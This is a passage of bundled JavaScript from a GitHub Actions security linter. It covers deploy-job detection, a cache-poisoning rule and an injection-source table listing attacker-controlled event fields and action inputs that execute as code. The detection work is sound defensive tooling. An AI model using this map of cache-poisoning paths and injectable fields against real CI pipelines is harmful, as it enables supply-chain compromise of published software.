    ['bitovi/github-actions-deploy-eks-helm'],
    ['deliverybot/helm']
];
/** Actions that deploy only where the job is a deploy job by its name or environment (they run anything remotely). */
const GENERIC_ACTIONS = ['appleboy/ssh-action'];
/** Deploy commands that say so themselves. */
const DEPLOY_COMMAND = new RegExp([
    String.raw `\bwrangler\s+(?:\S+\s+)*?(?:deploy|publish)\b`,
    String.raw `\b(?:flyctl|fly)\s+deploy\b`,
    String.raw `\bnetlify\s+deploy\b.*--prod\b`,
    String.raw `\bvercel\b(?!\s+(?:build|pull|env|link)\b).*--prod\b`,
    String.raw `\bfirebase\s+(?:\S+\s+)*?deploy\b`,
    String.raw `\bgcloud\s+(?:\S+\s+)*?(?:run|app|functions)\s+deploy\b`,
    String.raw `\baz\s+(?:webapp\s+(?:deploy|up)|containerapp\s+update|functionapp\s+deployment)\b`,
    String.raw `\baws\s+(?:ecs\s+update-service|lambda\s+update-function-code|deploy\s+create-deployment)\b`,
    String.raw `\b(?:cdk|sam|serverless|sls|kamal|eb)\s+deploy\b`,
    String.raw `\bheroku\s+container:release\b`,
    String.raw `\bgit\s+push\s+(?:\S+\s+)*?heroku\b`,
    String.raw `\bcf\s+push\b`,
    String.raw `\bdocker\s+stack\s+deploy\b`,
    String.raw `(?:^|[\s/;&|])deploy[\w.-]*\.sh\b`,
    String.raw `\bmake\s+(?:\S+\s+)*?deploy[\w:-]*(?=$|[\s;&|)])`,
    String.raw `\b(?:npm|pnpm|bun)\s+(?:\S+\s+)*?run\s+deploy(?=$|[\s:;&|)])`,
    String.raw `\byarn\s+(?!add\b|remove\b|install\b)(?:\S+\s+)*?deploy(?=$|[\s:;&|)])`
].join('|'), 'i');
/** Infrastructure commands that deploy only in a deploy job (by its name or environment); in CI they often target a throw-away cluster. */
const GENERIC_COMMAND = /\b(?:kubectl\s+(?:\S+\s+)*?(?:apply|rollout|set\s+image)\b|helm\s+(?:\S+\s+)*?(?:upgrade|install)\b|helmfile\s+(?:\S+\s+)*?(?:apply|sync)\b|terraform\s+(?:\S+\s+)*?apply\b|pulumi\s+(?:\S+\s+)*?up\b|ansible-playbook\b)/i;
const DRY_RUN = /--dry-run\b|--dryrun\b/i;
const DEPLOY_NAME = /deploy|release|publish|rollout|production|prod\b/i;
const SMOKE_COMMAND = /\b(?:curl|wget|smoke|health[-_ ]?check|healthz|readyz|livez|e2e|end-to-end)\b/i;
const GATES_NAME = /^gates(?:[-_ ]?enforcer)?$/i;
const PRODUCTION = /^(?:prod|production)$/i;
const STAGING = /^(?:staging|stage|stg|pre-?prod|pre-?production)$/i;
/** Longest run script read line by line for deploy commands (a bound on hostile input). */
const MAX_RUN_CHARS = 20_000;
function deploy_jobs_pos(token) {
    return token.range ? { line: token.range.start.line, column: token.range.start.column } : { line: 1, column: 1 };
}
/** The value of `key` in a mapping token, with its position. */
function mappingValue(token, key) {
    if (!token || !(0,dist/* isMapping */.pi)(token))
        return undefined;
    for (const pair of token)
        if ((0,dist/* isString */.Kg)(pair.key) && pair.key.value === key)
            return pair.value;
    return undefined;
}
/** A token as a reportable node. */
function deploy_jobs_nodeOf(token) {
    return { at: deploy_jobs_pos(token) };
}
/** A literal `true` (the parser may keep it as a boolean or a string). */
function isTrue(token) {
    return !!token && (0,dist/* isLiteral */.c$)(token) && token.toString().trim().toLowerCase() === 'true';
}
/** The environment name of `environment:` (a string, or a mapping with `name:`); literals only. */
function environmentName(token) {
    if (!token)
        return undefined;
    const name = (0,dist/* isMapping */.pi)(token) ? mappingValue(token, 'name') : token;
    return name && (0,dist/* isLiteral */.c$)(name) ? name.toString().trim() : undefined;
}
/** A literal `with:` input of a step (undefined when absent or an expression). */
function deploy_jobs_input(step, name) {
    const value = step.with.get(name)?.value;
    return value && (0,dist/* isLiteral */.c$)(value) ? value.toString() : undefined;
}
/** The `owner/repo[/path]` of a remote `uses:`, lower case, without its ref. */
function actionOf(uses) {
    const at = uses.indexOf('@');
    return (at < 0 ? uses : uses.slice(0, at)).trim().toLowerCase();
}
/** Our deploy action, under any owner and repository name, or as `./…` / `$/…`. */
function isDeployAction(uses) {
    return !!uses && DEPLOY_ACTION.test(uses.trim());
}
/**
 * Our root action: `owner/phase-gates@…`, or any `owner/repo@…`, `./` or `$/` given its inputs (a
 * bare `uses: ./` is whatever action the repository holds: actions/checkout tests itself that way).
 */
function isRootAction(uses, step) {
    if (!uses)
        return false;
    const value = uses.trim();
    if (ROOT_ACTION.test(value))
        return true;
    return !!step && /^(?:[^/\s@]+\/[^/\s@]+@|[.$]\/?$)/.test(value) && ROOT_INPUTS.every((k) => step.with.has(k));
}
/** The lines of a `run:` that deploy by themselves, or (with `generic`) by infrastructure commands too. */
function runDeploys(run, generic) {
    for (const line of run.slice(0, MAX_RUN_CHARS).split('\n')) {
        if (DRY_RUN.test(line))
            continue;
        if (DEPLOY_COMMAND.test(line) || (generic && GENERIC_COMMAND.test(line)))
            return true;
    }
    return false;
}
/**
 * A step that deploys: our deploy or root action, a deploy action of the field or a deploy
 * command; with `generic` (the job is a deploy job by its name or environment), an
 * infrastructure command or remote script too.
 */
function isDeployStep(step, generic = false) {
    const uses = step.uses?.value;
    if (uses) {
        if (isDeployAction(uses) || isRootAction(uses, step))
            return true;
        const action = actionOf(uses);
        const known = DEPLOY_ACTIONS.find(([name]) => action === name || action.startsWith(`${name}/`));
        if (known)
            return !known[1] || known[1](step);
        return generic && GENERIC_ACTIONS.includes(action);
    }
    return !!step.run && runDeploys(step.run.value, generic);
}
/** A smoke test: our smoke-test action, or a run that probes the service (curl, wget, health check, end-to-end tests). */
function isSmokeStep(step) {
    if (step.uses && SMOKE_ACTION.test(step.uses.value.trim()))
        return true;
    return !!step.run && SMOKE_COMMAND.test(step.run.value);
}
/** A step running our gates-enforcer action. */
function isGatesStep(step) {
    return !!step.uses && GATES_ACTION.test(step.uses.value.trim());
}
/** A gates job: it runs our gates-enforcer action, or is named `gates` / `gates_enforcer`. */
function isGatesJob(job) {
    return GATES_NAME.test(job.id.value) || (!!job.name && GATES_NAME.test(job.name.value)) || job.steps.some(isGatesStep);
}
function isProduction(name) {
    return PRODUCTION.test(name);
}
function isStaging(name) {
    return STAGING.test(name);
}
/** The job as a deploy job, or undefined when it changes no running service. */
function deployJob(job) {
    const generic = job.environment !== undefined || DEPLOY_NAME.test(job.id.value) || (!!job.name && DEPLOY_NAME.test(job.name.value));
    const deployStep = job.steps.find((s) => isDeployStep(s, generic));
    if (!deployStep)
        return undefined;
    const ours = job.steps.filter((s) => isDeployAction(s.uses?.value) || isRootAction(s.uses?.value, s));
    const environments = [];
    const jobEnv = environmentName(job.environment);
    if (jobEnv)
        environments.push(jobEnv);
    for (const step of ours) {
        const value = step.with.get('environment')?.value;
        if (value && (0,dist/* isLiteral */.c$)(value))
            environments.push(value.toString().trim());
    }
    return {
        job,
        deployStep,
        rootAction: ours.some((s) => isRootAction(s.uses?.value, s)),
        environments,
        production: environments.some(isProduction),
        staging: environments.some(isStaging)
    };
}
/** Every deploy job of the workflow, in file order. */
function deployJobs(workflow) {
    return workflow.jobs.map(deployJob).filter((d) => d !== undefined);
}
const dependentsOf = new WeakMap();
/** The jobs that need each job directly, built once per workflow. */
function dependents(workflow) {
    let map = dependentsOf.get(workflow);
    if (!map) {
        map = new Map();
        for (const job of workflow.jobs) {
            for (const needed of neededJobs(workflow, job)) {
                const list = map.get(needed);
                if (list)
                    list.push(job);
                else
                    map.set(needed, [job]);
            }
        }
        dependentsOf.set(workflow, map);
    }
    return map;
}
/**
 * The jobs that a job of `sources` waits for, directly or through other jobs (`upstream`), or that
 * wait for one (`downstream`); job ids are case-insensitive. One breadth-first pass over the needs
 * graph for all sources together: linear in the workflow, however many jobs it has. A source is in
 * the result only when a path leads to it from a source: from another, or from itself around a
 * cycle (which GitHub refuses, and PG111 reports).
 */
function reachable(workflow, sources, direction) {
    const edges = direction === 'upstream' ? (j) => neededJobs(workflow, j) : (j) => dependents(workflow).get(j) ?? [];
    const seen = new Set();
    const queue = [...sources];
    for (let i = 0; i < queue.length; i++) {
        for (const next of edges(queue[i])) {
            if (seen.has(next))
                continue;
            seen.add(next);
            queue.push(next);
        }
    }
    return seen;
}

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/cache-poisoning.js
/** PG217 cache-poisoning: a release workflow that restores a cache a pull request or branch run could have written. */









const field = (name, toggle, type, byDefault) => ({ field: name, toggle, type, byDefault });
/** zizmor's KNOWN_CACHE_AWARE_ACTIONS (crates/zizmor/src/audit/cache_poisoning.rs at 11bbf7e), plus actions/cache/restore. */
const CACHE_ACTIONS = [
    { uses: 'actions/cache', control: field('lookup-only', 'out', 'bool', true) },
    // Not in zizmor's table (its pattern matches no subpath): restore is the read a poisoned entry feeds.
    { uses: 'actions/cache/restore', control: field('lookup-only', 'out', 'bool', true) },
    { uses: 'actions/setup-java', control: field('cache', 'in', 'string', false) },
    { uses: 'actions/setup-go', control: field('cache', 'in', 'bool', true) },
    // Without `cache:`, v5+ caches only for a package.json that names npm in packageManager, which the workflow does not show:
    // `package-manager-cache` counts when set (zizmor takes it as on by default, for every version).
    { uses: 'actions/setup-node', control: { any: [field('cache', 'in', ['npm', 'yarn', 'pnpm'], false), { all: [{ atLeast: 5 }, field('package-manager-cache', 'in', 'bool', false)] }] } },
    { uses: 'actions/setup-python', control: field('cache', 'in', 'string', false) },
    { uses: 'actions/setup-dotnet', control: field('cache', 'in', 'bool', false) },
    { uses: 'astral-sh/setup-uv', control: { any: [field('enable-cache', 'in', ['true'], false), { all: [{ below: 10 }, field('enable-cache', 'in', 'bool', true)] }] } },
    { uses: 'swatinem/rust-cache', control: field('lookup-only', 'out', 'bool', true) },
    { uses: 'ruby/setup-ruby', control: field('bundler-cache', 'in', 'bool', false) },
    { uses: 'pyo3/maturin-action', control: field('sccache', 'in', 'bool', false) },
    { uses: 'mlugg/setup-zig', control: field('use-cache', 'in', 'bool', true) },
    { uses: 'oven-sh/setup-bun', control: field('no-cache', 'out', 'bool', true) },
    { uses: 'determinatesystems/magic-nix-cache-action', control: field('use-gha-cache', 'in', 'bool', true) },
    { uses: 'graalvm/setup-graalvm', control: field('cache', 'in', 'string', false) },
    { uses: 'gradle/actions/setup-gradle', control: field('cache-disabled', 'out', 'bool', true) },
    { uses: 'docker/setup-buildx-action', control: { all: [field('cache-binary', 'in', 'bool', true), field('version', 'in', 'string', false)] } },
    { uses: 'actions-rust-lang/setup-rust-toolchain', control: field('cache', 'in', 'bool', true) },
    { uses: 'mozilla-actions/sccache-action' },
    { uses: 'nix-community/cache-nix-action' },
    { uses: 'jdx/mise-action', control: field('cache', 'in', 'bool', true) },
    { uses: 'ramsey/composer-install', control: field('ignore-cache', 'out', ['yes', 'true', '1'], true) },
    { uses: 'awalsh128/cache-apt-pkgs-action' }
];
/** zizmor's KNOWN_PUBLISHER_ACTIONS: a step of one makes the job a publishing job whatever its triggers. */
const PUBLISHERS = [
    'pypa/gh-action-pypi-publish', 'rubygems/release-gem', 'jreleaser/release-action', 'goreleaser/goreleaser-action',
    'softprops/action-gh-release', 'release-drafter/release-drafter', 'googleapis/release-please-action',
    'redhat-actions/push-to-registry', 'aws-actions/amazon-ecs-deploy-task-definition', 'aws-actions/aws-cloudformation-github-deploy',
    'azure/aci-deploy', 'azure/container-apps-deploy-action', 'azure/functions-action', 'azure/sql-action', 'cloudflare/wrangler-action',
    'google-github-actions/deploy-appengine', 'google-github-actions/deploy-cloudrun', 'google-github-actions/deploy-cloud-functions'
].map((uses) => ({ uses })).concat([
    // `push` defaults to false in docker/build-push-action's action.yml (zizmor takes it as true).
    { uses: 'docker/build-push-action', control: field('push', 'in', 'bool', false) }
]);
/** More publishing actions, for whether a job of a release workflow publishes (not in zizmor's table). */
const MORE_PUBLISHERS = [
    'ncipollo/release-action', 'actions/create-release', 'actions/upload-release-asset', 'svenstaro/upload-release-action',
    'actions/deploy-pages', 'peaceiris/actions-gh-pages', 'jamesives/github-pages-deploy-action', 'changesets/action',
    'crazy-max/ghaction-github-pages', 'helm/chart-releaser-action', 'js-devtools/npm-publish'
].map((uses) => ({ uses }));
/** A `run:` that publishes: a package upload, a release, an image push, a site deploy. */
const PUBLISH_COMMAND = /\b(?:(?:npm|pnpm|bun|poetry|uv|flit|hatch|cargo|vsce|ovsx|lerna|changeset|jlpm)\s+publish|yarn\s+(?:npm\s+)?publish|twine\s+upload|gh\s+release\s+(?:create|upload|edit)|docker\s+(?:image\s+)?push|docker\s+buildx\s+(?:build|bake)\b[^\n]*--push|goreleaser\s+release\b|semantic-release|gem\s+push|nuget\s+push|mvn\b[^\n]*\bdeploy|gradlew?\b[^\n]*\bpublish\w*|mkdocs\s+gh-deploy|ghp-import|helm\s+push|wrangler\s+(?:deploy|publish|pages\s+deploy))\b/;
/** The artifact names of the `actions/<kind>-artifact` steps: a download's `pattern:` as written, `*` for a download of every artifact or of a name set by an expression. */
function artifactNames(steps, kind) {
    const names = [];
    for (const s of steps) {
        if (!new RegExp(`^actions/${kind}-artifact@`, 'i').test(s.uses?.value.trim() ?? ''))
            continue;
        const name = textOf(s.with.get('name')?.value) ?? (kind === 'upload' ? 'artifact' : textOf(s.with.get('pattern')?.value) ?? '*');
        names.push(kind === 'download' && name.includes('${{') ? '*' : name);
    }
    return names;
}
/** A job that publishes, needs (directly or not) `job` and downloads an artifact `job` uploads. */
function feedsPublisher(job, workflow, file) {
    const uploads = artifactNames(job.steps, 'upload');
    if (!uploads.length)
        return undefined;
    // An uploaded name with `${{ }}` matches the downloaded names its literal parts allow.
    const patterns = uploads.map((u) => new RegExp(`^${u.split(/\$\{\{.*?\}\}/).map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('.*')}$`));
    // A download pattern (`pydantic_core_pypi_files_*`) may take an upload when their literal beginnings agree.
    const prefixes = uploads.map((u) => u.split('${{')[0]);
    const globTakes = (glob) => prefixes.some((p) => glob.split(/[*?[]/)[0].startsWith(p) || p.startsWith(glob.split(/[*?[]/)[0]));
    const takes = (other) => artifactNames(other.steps, 'download').some((n) => n === '*' || (/[*?[]/.test(n) ? globTakes(n) : patterns.some((p) => p.test(n))));
    const searches = (searchesMade.get(workflow) ?? 0) + 1;
    searchesMade.set(workflow, searches);
    if (searches > FEED_SEARCHES_PER_WORKFLOW)
        return undefined;
    for (const other of reachable(workflow, [job], 'downstream')) {
        if (other !== job && !other.uses && takes(other) && publishingJob(other, workflow, file))
            return other;
    }
    return undefined;
}
/**
 * Most searches for a publishing job downstream of an uploading one in a workflow: each walks the
 * jobs after it, so thousands of caching jobs that upload in a workflow of thousands would be
 * quadratic. Past it a job is taken as feeding none (no finding: precision first).
 */
const FEED_SEARCHES_PER_WORKFLOW = 200;
const searchesMade = new WeakMap();
/** A job named for publishing: `publish`, `release-pypi`, `Deploy docs` (not `goreleaser-check`). */
const PUBLISHING_NAME = /(?:^|[^a-z])(?:publish|release|deploy)/i;
/** Write scopes that release jobs hold: to push tags and releases, packages, or to sign and publish with OIDC. */
const RELEASE_SCOPES = ['contents', 'packages', 'id-token', 'attestations', 'deployments', 'pages'];
/**
 * What makes a job of a release workflow a publishing one: a deployment environment (where release
 * secrets live), a write scope releases use, or a publishing step.
 */
function publishingJob(job, workflow, file) {
    if (job.environment)
        return { at: tokens_posOf(job.environment) };
    if (PUBLISHING_NAME.test(job.id.value))
        return job.id;
    if (job.name && PUBLISHING_NAME.test(job.name.value))
        return job.name;
    const perms = job.permissions ?? workflow.permissions?.value;
    if (perms && (0,dist/* isMapping */.pi)(perms)) {
        for (const pair of perms)
            if (RELEASE_SCOPES.includes(textOf(pair.key) ?? '') && textOf(pair.value) === 'write')
                return { at: tokens_posOf(pair.key) };
    }
    else if (perms && textOf(perms) === 'write-all')
        return { at: tokens_posOf(perms) };
    return publishes(job.steps, file);
}
/** Whether steps publish: a publishing action (its use not turned off) or a publishing command. */
function publishes(steps, file) {
    return steps.find((s) => usage(PUBLISHERS, s, file) || usage(MORE_PUBLISHERS, s, file) || (s.run && (textOf(entryOf(s.token, 'run')?.value) ?? s.run.value).split('\n').some((line) => PUBLISH_COMMAND.test(line) && !/--dry-run|--snapshot/.test(line))));
}
function cache_poisoning_matches(entry, uses) {
    const name = `${uses.owner}/${uses.repo}`.toLowerCase();
    const [owner, repo, ...rest] = entry.uses.split('/');
    return name === `${owner}/${repo}` && uses.path === rest.join('/');
}
/** `v10`, `1.2.3` → [major, minor, patch]; undefined when not a version (zizmor's Version::parse). */
function version(text) {
    const m = text && /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?$/.exec(text);
    return m ? [Number(m[1]), Number(m[2] ?? 0), Number(m[3] ?? 0)] : undefined;
}
/** Whether a whole value is one `${{ }}` (zizmor's ExtractedExpr::from_fenced). */
function fenced(text) {
    const t = text.trim();
    return t.startsWith('${{') && t.endsWith('}}') ? t.slice(3, -2) : undefined;
}
function evaluate(control, step, uses, comment) {
    if ('all' in control) {
        const parts = control.all.map((c) => evaluate(c, step, uses, comment));
        return parts.includes('off') ? 'off' : parts.includes('maybe') ? 'maybe' : 'on';
    }
    if ('any' in control) {
        const parts = control.any.map((c) => evaluate(c, step, uses, comment));
        return parts.includes('on') ? 'on' : parts.includes('maybe') ? 'maybe' : 'off';
    }
    if ('below' in control || 'atLeast' in control) {
        const v = version(/^[0-9a-f]{40}$/i.test(uses.ref) ? commentVersion(comment) : uses.ref);
        if (!v)
            return 'maybe';
        return ('below' in control ? v[0] < control.below : v[0] >= control.atLeast) ? 'on' : 'off';
    }
    const entry = step.with.get(control.field);
    if (!entry)
        return control.byDefault ? 'on' : 'off';
    const text = textOf(entry.value) ?? '';
    let value;
    if (control.type === 'bool')
        value = text === 'true' ? true : text === 'false' ? false : fenced(text) !== undefined ? undefined : true;
    else if (control.type === 'string')
        value = text !== '';
    else
        value = fenced(text) !== undefined ? undefined : control.type.includes(text);
    if (value === undefined)
        return 'maybe';
    return value === (control.toggle === 'in') ? 'on' : 'off';
}
/** A step's use of an entry of `table`: on, maybe (an expression decides), or undefined (none). */
function usage(table, step, file) {
    const uses = parseUses(step.uses?.value);
    const entry = uses && table.find((e) => cache_poisoning_matches(e, uses));
    if (!uses || !entry)
        return undefined;
    if (!entry.control)
        return { entry, eval: 'on' };
    const withToken = entryOf(step.token, 'with')?.value;
    if (withToken && !(0,dist/* isMapping */.pi)(withToken))
        return { entry, eval: 'maybe' };
    const line = tokens_lineOf(file, step.uses?.at.line ?? 1);
    const comment = /\s#(.*)$/.exec(line.slice((step.uses?.at.column ?? 1) - 1))?.[1]?.trim();
    const result = evaluate(entry.control, step, uses, comment);
    return result === 'off' ? undefined : { entry, eval: result };
}
/** The triggers of release workflows, as zizmor reads them: a release, a push of tags, a push of release branches. */
function releaseTriggers(workflow) {
    const out = [];
    const push = workflow.on.get('push')?.value;
    if (push && (0,dist/* isMapping */.pi)(push)) {
        if (entryOf(push, 'tags') || entryOf(push, 'tags-ignore'))
            out.push('tag push');
        const branches = entryOf(push, 'branches')?.value;
        const names = [];
        if (branches && (0,dist/* isSequence */.wZ)(branches))
            for (const t of branches)
                names.push(textOf(t) ?? '');
        else
            names.push(textOf(branches) ?? '');
        if (names.some((b) => b.toLowerCase().includes('release')))
            out.push('release branch push');
    }
    if (workflow.on.has('release'))
        out.push('release');
    return out;
}
/** The boolean-like fields of a control (`cache`, setup-uv's `enable-cache` whose values are true, false or auto). */
function toggleFields(control) {
    if ('field' in control)
        return control.type === 'bool' || (Array.isArray(control.type) && control.type.includes('true')) ? [control] : [];
    if ('all' in control)
        return control.all.flatMap(toggleFields);
    if ('any' in control)
        return control.any.flatMap(toggleFields);
    return [];
}
/**
 * Whether a `${{ }}` toggle turns the cache off in a tag-push run (`enable-cache: ${{
 * !startsWith(github.ref, 'refs/tags/') }}`, pydantic's ci.yml), read with zizmor's heuristic.
 */
function offOnTagPush(control, step) {
    return toggleFields(control).some(({ field: name, toggle }) => {
        const value = textOf(step.with.get(name)?.value);
        const inner = value !== undefined ? fenced(value) : undefined;
        const tree = inner !== undefined ? parseExpression(inner) : undefined;
        const tag = tree && forTagPush(tree);
        return tag !== undefined && tag !== (toggle === 'in');
    });
}
/** zizmor's heuristic: `${{ startsWith(github.ref, 'refs/tags/') }}`, `github.event_name == 'push' && github.ref_type == 'tag'`, literals and `!`, evaluated for a tag push. */
function forTagPush(e) {
    if (e instanceof ast/* Grouping */.aU)
        return forTagPush(e.group);
    if (e instanceof ast/* Literal */.uS && (e.token.lexeme === 'true' || e.token.lexeme === 'false'))
        return e.token.lexeme === 'true';
    if (e instanceof ast/* Unary */._c && e.operator.lexeme === '!') {
        const inner = forTagPush(e.expr);
        return inner === undefined ? undefined : !inner;
    }
    if (e instanceof ast/* FunctionCall */.R6 && e.functionName.lexeme.toLowerCase() === 'startswith' && e.args.length === 2) {
        const [lhs, rhs] = e.args;
        if (contextPath(lhs) === 'github.ref' && rhs instanceof ast/* Literal */.uS && String(rhs.token.value).toLowerCase() === 'refs/tags/')
            return true;
        return undefined;
    }
    if (e instanceof ast/* Logical */.oD && e.operator.lexeme === '&&' && e.args.length === 2) {
        const eq = (x) => {
            if (!(x instanceof ast/* Binary */.yI) || x.operator.lexeme !== '==')
                return undefined;
            const sides = [x.left, x.right];
            const ctx = sides.find((s) => contextPath(s));
            const lit = sides.find((s) => s instanceof ast/* Literal */.uS);
            return ctx && lit ? `${contextPath(ctx)}=${String(lit.token.value ?? lit.token.lexeme)}` : undefined;
        };
        const got = e.args.map(eq).sort().join(' ');
        if (got === 'github.event_name=push github.ref_type=tag')
            return true;
    }
    return undefined;
}
const cache_poisoning_rule = {
    id: 'PG217',
    name: 'cache-poisoning',
    level: 'warning',
    description: 'A job that publishes (in a release or tag-push workflow, or with a publishing step) restores a GitHub Actions cache, which a pull request or branch run could have poisoned.',
    help: 'Caches are shared across the runs of a repository: an entry written by a run on any branch, or by a workflow an attacker can trigger, is restored by a later release run whose key matches, and what it holds (dependencies, compilers, build outputs) runs in the release job and goes into what it publishes. A workflow counts as a release one when it runs on `release`, on a push of tags, or on a push of branches whose name contains "release"; in it, a job is reported when it publishes (a publishing step such as `pypa/gh-action-pypi-publish`, `softprops/action-gh-release`, `goreleaser/goreleaser-action`, `npm publish`, `twine upload`, `gh release create`, `docker push`; a deployment environment; a `contents`, `packages`, `id-token`, `attestations`, `deployments` or `pages` write scope; or a name with publish, release or deploy), or uploads an artifact a publishing job downloads. In any other workflow (a `workflow_dispatch` release flow, a nightly), a job with a publishing step is reported, as zizmor does for its publishing actions. The caching steps are zizmor\'s table: `actions/cache`, `actions/setup-go` (caches by default), `actions/setup-node` with `cache:`, `actions/setup-python`/`setup-java` with `cache:`, `Swatinem/rust-cache`, `astral-sh/setup-uv`, `ruby/setup-ruby` with `bundler-cache`, and more, with zizmor\'s reading of `${{ }}` toggles in tag-push workflows. Turn caching off in the publishing job (`cache: false`, `lookup-only: true`, drop `cache:`) and build from a clean state. Differences from zizmor\'s cache-poisoning, on purpose: a test or check job of a release workflow that publishes nothing and feeds no publishing job is not reported (zizmor reports every job); `actions/cache/restore` is reported too; `setup-node` without `cache:` is not reported (v5+ caches then only for a package.json naming npm as `packageManager`, which the workflow does not show); `docker/build-push-action` publishes only with `push: true` (its default is false).',
    create(context) {
        return {
            jobPre(job, workflow) {
                if (job.uses)
                    return;
                const triggers = releaseTriggers(workflow);
                const file = workflow.file;
                // Any trigger (a workflow_dispatch release flow, a schedule): a job with a publishing step publishes.
                const publisher = triggers.length ? undefined : publishes(job.steps, file);
                if (!triggers.length && !publisher)
                    return;
                // A release workflow also runs tests and checks: only a job that publishes, or builds artifacts a publishing job takes, feeds a release.
                const feeds = triggers.length ? publishingJob(job, workflow, file) ?? feedsPublisher(job, workflow, file) : publisher;
                if (!feeds)
                    return;
                const onlyTags = triggers.length > 0 && triggers.every((t) => t !== 'release branch push');
                for (const step of job.steps) {
                    const used = usage(CACHE_ACTIONS, step, file);
                    if (!used)
                        continue;
                    const control = used.entry.control;
                    if (used.eval === 'maybe' && onlyTags && control && offOnTagPush(control, step))
                        continue;
                    const key = entryOf(step.token, 'uses')?.key ?? step;
                    const name = step.uses.value.trim().split('@')[0];
                    const why = triggers.length
                        ? `runs on ${[...new Set(triggers)].join(', ')}, in a job that ${'steps' in feeds ? `feeds job "${feeds.id.value}", which publishes` : `publishes (line ${feeds.at.line})`}`
                        : `publishes (${publisher.uses ? `"${publisher.uses.value.trim().split('@')[0]}"` : 'a publishing command'}, line ${publisher.at.line})`;
                    const how = !control ? 'it always restores a cache; drop it from this workflow' : used.eval === 'maybe' ? 'its cache may be on (an expression or the action\'s version decides); turn caching off here' : 'turn caching off here';
                    context.report(workflow.file, key, `"${name}" restores a cache in a workflow that ${why}: an entry a pull request or branch run wrote could end up in the published artifacts; ${how}`);
                }
            }
        };
    }
};
/* harmony default export */ const cache_poisoning = (cache_poisoning_rule);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/supply-chain/index.js

















/** The rules that read the GitHub API about the actions workflows use (zizmor's online audits). */
const ONLINE_RULES = [impostor_commit, ref_confusion, ref_version_mismatch, stale_action_refs, archived_uses, known_vulnerable_actions];
/** The rules that read each action's own action.yml through the API when given a token, else a stored table. */
const TABLE_OR_API_RULES = [popular_action_inputs, outdated_action_runtime];
const supply_chain_family = {
    name: 'supply-chain',
    title: 'Supply chain',
    description: 'What a workflow runs that others wrote: actions and images, their pins, versions, inputs and runtimes.',
    rules: [
        unpinned_action,
        mutable_image,
        superfluous_actions,
        misfeature,
        forbidden_uses,
        use_trusted_publishing,
        dependabot_cooldown,
        dependabot_execution,
        popular_action_inputs,
        outdated_action_runtime,
        cache_poisoning,
        ...ONLINE_RULES
    ]
};
/* harmony default export */ const supply_chain = (supply_chain_family);

;// CONCATENATED MODULE: ./.build/src/core/workflows/rules/injection/sources.js
/**
 * Where untrusted data comes from and where it becomes code, for PG200 untrusted-input-in-script:
 * attacker-controlled fields of the event, actions whose inputs are code, and action outputs that
 * carry attacker-controlled text.
 */
/**
 * Attacker-controlled fields: actionlint's list and GitHub's security hardening guide, and the
 * text fields (titles, bodies, messages, names, head branches, file paths of pushed commits) that
 * zizmor's context-capabilities.csv (zizmorcore/zizmor 11bbf7e6, crates/zizmor/data/) rates
 * "arbitrary" or "structured". Left out on purpose: fields the base repository's maintainers set
 * (repository, organization, labels, milestones, base refs), ids, node ids, URLs and dates. `*` is
 * any element of an array.
 */
const UNTRUSTED_CONTEXTS = [
    'github.head_ref',
    'github.event.review_comment.body',
    'github.event.answer.body',
    'github.event.build.error.message',
    'github.event.check_run.check_suite.head_branch',
    'github.event.check_run.check_suite.pull_requests.*.head.ref',
    'github.event.check_run.deployment.description',
    'github.event.check_run.output.summary',
    'github.event.check_run.output.text',
    'github.event.check_run.output.title',
    'github.event.check_run.pull_requests.*.head.ref',
    'github.event.check_suite.head_branch',
    'github.event.check_suite.head_commit.author.email',
    'github.event.check_suite.head_commit.author.name',
    'github.event.check_suite.head_commit.committer.email',
    'github.event.check_suite.head_commit.committer.name',
    'github.event.check_suite.head_commit.message',
    'github.event.check_suite.pull_requests.*.head.ref',
    'github.event.comment.body',
    'github.event.commit.author.email',
    'github.event.commit.author.name',
    'github.event.commit.commit.author.email',
    'github.event.commit.commit.author.name',
    'github.event.commit.commit.committer.email',
    'github.event.commit.commit.committer.name',
    'github.event.commit.commit.message',
    'github.event.commit.committer.email',
    'github.event.commit.committer.name',
    'github.event.commits.*.added.*',
    'github.event.commits.*.author.email',
    'github.event.commits.*.author.name',
    'github.event.commits.*.committer.email',
    'github.event.commits.*.committer.name',
    'github.event.commits.*.message',
    'github.event.commits.*.modified.*',
    'github.event.commits.*.removed.*',
    'github.event.deployment.description',
    'github.event.deployment_status.description',
    'github.event.discussion.body',
    'github.event.discussion.title',
    'github.event.forkee.default_branch',
    'github.event.forkee.description',
    'github.event.head_commit.author.email',
    'github.event.head_commit.author.name',
    'github.event.head_commit.committer.email',
    'github.event.head_commit.committer.name',
    'github.event.head_commit.message',
    'github.event.issue.body',
    'github.event.issue.title',
    'github.event.merge_group.head_commit.author.email',
    'github.event.merge_group.head_commit.author.name',
    'github.event.merge_group.head_commit.committer.email',
    'github.event.merge_group.head_commit.committer.name',
    'github.event.merge_group.head_commit.message',
    'github.event.merge_group.head_ref',
    'github.event.old_answer.body',
    'github.event.pages.*.page_name',
    'github.event.pages.*.summary',
    'github.event.pages.*.title',
    'github.event.pull_request.body',
    'github.event.pull_request.head.label',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.head.repo.default_branch',
    'github.event.pull_request.head.repo.description',
    'github.event.pull_request.title',
    'github.event.release.assets.*.label',
    'github.event.release.body',
    'github.event.review.body',
    'github.event.workflow_run.head_branch',
    'github.event.workflow_run.head_commit.author.email',
    'github.event.workflow_run.head_commit.author.name',
    'github.event.workflow_run.head_commit.committer.email',
    'github.event.workflow_run.head_commit.committer.name',
    'github.event.workflow_run.head_commit.message',
    'github.event.workflow_run.head_repository.description',
    'github.event.workflow_run.pull_requests.*.head.ref'
];
/**
 * Action inputs that are code (zizmor's list: CodeQL's injection sinks plus its own additions), by
 * `owner/repo` in lower case.
 */
const CODE_INPUTS = new Map([
    ['8398a7/action-slack', ['custom_payload']],
    ['actions/github-script', ['script']],
    ['appleboy/ssh-action', ['script']],
    ['azure/cli', ['inlineScript']],
    ['azure/powershell', ['inlineScript']],
    ['devorbitus/yq-action-output', ['cmd']],
    ['gautamkrishnar/blog-post-workflow', ['item_exec']],
    ['imjohnbo/issue-bot', ['body', 'linked-comments-previous-issue-text', 'linked-comments-new-issue-text']],
    ['lucasbento/auto-close-issues', ['issue-close-message']],
    ['mikefarah/yq', ['cmd']],
